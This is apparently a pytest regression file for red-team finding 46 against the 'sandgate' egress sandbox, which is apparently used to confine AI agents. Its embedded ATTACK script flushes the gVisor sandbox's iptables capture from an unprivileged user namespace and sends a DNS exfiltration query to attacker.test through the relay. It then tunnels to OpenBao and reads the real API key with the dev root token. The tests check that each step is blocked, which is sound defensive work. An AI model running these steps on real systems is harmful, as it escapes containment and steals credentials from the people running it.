"""Red team 46, finding 1: in `sandgate run`'s gVisor mode, CMD undoes the capture from a user
namespace of its own, then talks to the host and the relay directly.

CMD runs as uid 1000 with no_new_privs and no capability. Unprivileged user namespaces are open
inside gVisor, and gVisor's netstack asks for CAP_NET_ADMIN / CAP_NET_RAW in the *caller's own*
user namespace (runsc 20221219, Debian's package, the one ``scripts/system-packages`` installs):
``unshare -Ur iptables-legacy -F SANDGATE`` succeeds and removes the capture for every process of
the sandbox. From then on CMD (as itself again) reaches:

- any port of the host, through the veth (the README's "the relay is the only way out");
- the relay itself, which serves whoever comes from the sandbox's address: ``GET /resolve`` is a
  DNS query through the host's resolver for any name (DNS exfiltration), ``CONNECT IP:PORT`` a
  tunnel to any permitted address on a policy port (the allowlist, SNI and key checks skipped);
- ``VAULT_ADDR``, which the relay tunnels to for anyone: in the README's demo, OpenBao's dev
  server with its well-known root token ``root``, which reads the real key.

Copy into tests/run/. Every test here fails on the code of 4e3b4f0.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import OPENAI, needs_root
from tests.run.test_redteam26 import sandgate_run
from tests.support.listeners import ContactRecorder, DnsSink

pytestmark = [
    needs_root,
    pytest.mark.skipif(shutil.which("runsc") is None, reason="runsc not installed"),
]

BAIT_PORT = 18946
LABEL = f"rt46-{secrets.token_hex(6)}"  # what CMD asks the relay to resolve: DNS exfiltration
PY = "/usr/bin/python3"

ATTACK = r"""
import json, os, socket, ssl, subprocess, sys
iptables, bait, label, vault_port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
out = {"uid": os.getuid()}

def gateway():
    with open("/proc/net/route") as f:
        for line in f.read().splitlines()[1:]:
            cols = line.split()
            if cols[1] == "00000000":
                return socket.inet_ntoa(bytes.fromhex(cols[2])[::-1])

def relay(gw, head):
    s = socket.create_connection((gw, 15002), timeout=5)
    s.sendall(head.encode())
    data = b""
    while chunk := s.recv(65536):
        data += chunk
        if head.startswith("CONNECT"):
            break
    return s, data

# 1. No privilege but a user namespace of our own: gVisor lets its "root" flush the capture.
env = dict(os.environ, XTABLES_LOCKFILE="/tmp/xtables.lock")  # (/run/xtables.lock is root's)
flush = f"{iptables} -t nat -F SANDGATE; {iptables} -t filter -F SANDGATE"
r = subprocess.run(["unshare", "-Ur", "sh", "-c", flush], env=env, capture_output=True, text=True)
out["flush"] = [r.returncode, r.stderr[-300:]]
gw = gateway()

# 2. The host, on a port no policy names.
try:
    socket.create_connection((gw, bait), timeout=3).close()
    out["bait"] = "connected"
except OSError as e:
    out["bait"] = f"{type(e).__name__}: {e}"

# 3. The relay: a DNS query of our choosing through the host's resolver, and a tunnel to attacker.test.
try:
    s, data = relay(gw, f"GET /resolve?name={label}.attacker.test HTTP/1.1\r\nHost: r\r\n\r\n")
    out["resolve"] = data.split(b"\r\n", 1)[0].decode()
except OSError as e:
    out["resolve"] = f"{type(e).__name__}: {e}"
try:
    s, data = relay(gw, "CONNECT 127.0.0.6:443 HTTP/1.1\r\n\r\n")
    out["tunnel"] = data.split(b"\r\n", 1)[0].decode()
except OSError as e:
    out["tunnel"] = f"{type(e).__name__}: {e}"

# 4. VAULT_ADDR through the relay, with the dev server's root token (the demo's OpenBao).
try:
    s, data = relay(gw, f"CONNECT 127.0.0.1:{vault_port} HTTP/1.1\r\n\r\n")
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname="127.0.0.1")
    t.sendall(b"GET /v1/secret/data/demo/openai HTTP/1.1\r\nHost: v\r\nX-Vault-Token: root\r\nConnection: close\r\n\r\n")
    body = b""
    while chunk := t.recv(65536):
        body += chunk
    out["vault"] = body.decode(errors="replace")[-400:]
except OSError as e:
    out["vault"] = f"{type(e).__name__}: {e}"
print("ATTACK " + json.dumps(out), flush=True)
"""


def _policy() -> str:
    return f"""apiVersion: sandgate.dev/v1alpha1
kind: EgressPolicy
metadata: {{name: demo-agent}}
spec:
  allow: [{{host: api.openai.com}}]
  secrets:
    - name: openai
      placeholder: {OPENAI.placeholder}
      source: {{vault: {{mount: secret, path: demo/openai, key: api_key}}}}
      hosts: [api.openai.com]
      agentEnv: [OPENAI_API_KEY]
"""


@pytest.fixture(scope="module")
def bao(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, str]]:
    """The README demo's set-up: OpenBao's dev server holds the real key; the proxy gets a token
    that may read that one path (sandgate.demo._provision)."""
    from sandgate.demo import _provision
    from tests.support.openbao import OpenBao

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    d = Path(tempfile.mkdtemp(prefix="sandgate-rt46-bao-", dir="/var/tmp"))  # (gVisor masks /tmp)
    b = OpenBao(d, port)
    try:
        yield b, _provision(b, OPENAI.real)
    finally:
        b.stop()
        shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def home() -> Iterator[Path]:
    """CMD's working directory, uid 1000's (as tests/run/test_redteam26.py's), for one run."""
    d = Path(tempfile.mkdtemp(prefix="sandgate-rt46-", dir="/var/tmp"))
    os.chown(d, 1000, 1000)
    yield d
    shutil.rmtree(d)


@pytest.fixture(scope="module")
def attack(
    home: Path, pki: dict[str, Path], bao: tuple[Any, str], attacker: ContactRecorder, dns: DnsSink
) -> dict[str, Any]:
    b, token = bao
    (home / "policy.yaml").write_text(_policy())
    (home / "attack.py").write_text(ATTACK)
    iptables = shutil.which("iptables-legacy") or shutil.which("iptables")
    assert iptables
    bait = ContactRecorder([("0.0.0.0", BAIT_PORT)])
    before = attacker.count
    try:
        r = sandgate_run(
            home, pki, "on", "--", PY, "attack.py", iptables, str(BAIT_PORT), LABEL, str(b.port),
            env={"VAULT_ADDR": b.addr, "VAULT_CACERT": b.cacert, "VAULT_TOKEN": token},
            timeout=180,
        )  # fmt: skip
        threading.Event().wait(0.3)
        contacts = bait.count
    finally:
        bait.close()
    assert "gVisor sandbox" in r.stderr, r.stderr[-2000:]
    line = next((ln for ln in r.stdout.splitlines() if ln.startswith("ATTACK ")), None)
    assert line, r.stderr[-2000:]
    found: dict[str, Any] = json.loads(line.removeprefix("ATTACK "))
    assert found["uid"] == 1000
    found["bait_contacts"] = contacts
    found["attacker_contacts"] = attacker.count - before
    found["dns_asked"] = dns.asked_about(LABEL)
    found["stdout"] = r.stdout
    return found


def test_cmd_cannot_remove_the_capture_from_a_user_namespace(attack: dict[str, Any]) -> None:
    """`unshare -Ur iptables -F SANDGATE` as CMD: the capture must stay in force (the flush refused)."""
    assert attack["flush"][0] != 0, f"CMD flushed the sandbox's capture rules: {attack['flush']}"


def test_cmd_reaches_no_host_port_outside_the_relay(attack: dict[str, Any]) -> None:
    assert attack["bait_contacts"] == 0 and attack["bait"] != "connected", (
        f"a TCP connection from CMD reached the host outside the proxy: {attack['bait']}"
    )


def test_cmd_cannot_make_the_relay_resolve_names(attack: dict[str, Any]) -> None:
    """DNS exfiltration: the label CMD chose reached the host's resolver."""
    assert not attack["dns_asked"], f"the host's resolver was asked about {LABEL} for CMD: {attack['resolve']}"


def test_cmd_cannot_open_a_tunnel_past_the_proxy(attack: dict[str, Any]) -> None:
    assert attack["attacker_contacts"] == 0, f"CMD reached attacker.test straight through the relay: {attack['tunnel']}"


def test_cmd_cannot_read_the_real_key_from_vault(attack: dict[str, Any]) -> None:
    """The README's demo set-up: the relay tunnels CMD to OpenBao, whose dev root token reads the key."""
    assert OPENAI.real not in attack["stdout"], "CMD read the real key from Vault through the relay"
